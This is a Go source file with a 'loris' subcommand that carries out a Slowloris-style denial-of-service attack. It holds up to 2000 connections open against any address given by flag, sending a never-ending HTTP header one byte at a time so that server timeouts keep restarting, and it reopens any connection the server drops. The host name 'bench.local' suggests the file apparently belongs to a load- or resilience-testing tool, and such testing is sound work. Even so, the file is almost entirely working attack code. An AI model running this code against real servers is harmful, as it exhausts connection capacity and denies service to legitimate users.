package main

import (
	"errors"
	"flag"
	"fmt"
	"time"

	"golang.org/x/sys/unix"
)

const (
	slowHead = "GET / HTTP/1.1\r\nHost: bench.local\r\n"
	// slowField is sent again and again: the head never ends.
	slowField = "X-Slow: 1\r\n"
	// slowEvery is how often each connection gets one byte: often enough for timers that a byte restarts.
	slowEvery = time.Second
)

// loris opens connections and sends a request's head on each, byte by byte, until it is killed. One that the server closes
// is opened again.
func loris(args []string) error {
	fs := flag.NewFlagSet("loris", flag.ExitOnError)
	addr, n := fs.String("addr", "", "`host:port`"), fs.Int("n", 2000, "connections")
	if err := fs.Parse(args); err != nil {
		return err
	}
	fds := make([]int, *n)
	for i := range fds {
		if err := slowConn(*addr, &fds[i]); err != nil {
			return err
		}
	}
	fmt.Println("ready")
	began, sent := time.Now(), 0
	for {
		due := int(time.Since(began).Seconds() / slowEvery.Seconds() * float64(*n))
		for ; sent < due; sent++ {
			i, b := sent%*n, slowField[sent / *n % len(slowField)]
			if _, err := unix.Write(fds[i], []byte{b}); err == nil || errors.Is(err, unix.EAGAIN) {
				continue
			}
			unix.Close(fds[i])
			if err := slowConn(*addr, &fds[i]); err != nil {
				return err
			}
		}
		time.Sleep(time.Millisecond)
	}
}

func slowConn(addr string, fd *int) (err error) {
	if *fd, err = dial(addr); err != nil {
		return err
	}
	if _, err = unix.Write(*fd, []byte(slowHead)); err != nil {
		return err
	}
	return unix.SetNonblock(*fd, true)
}
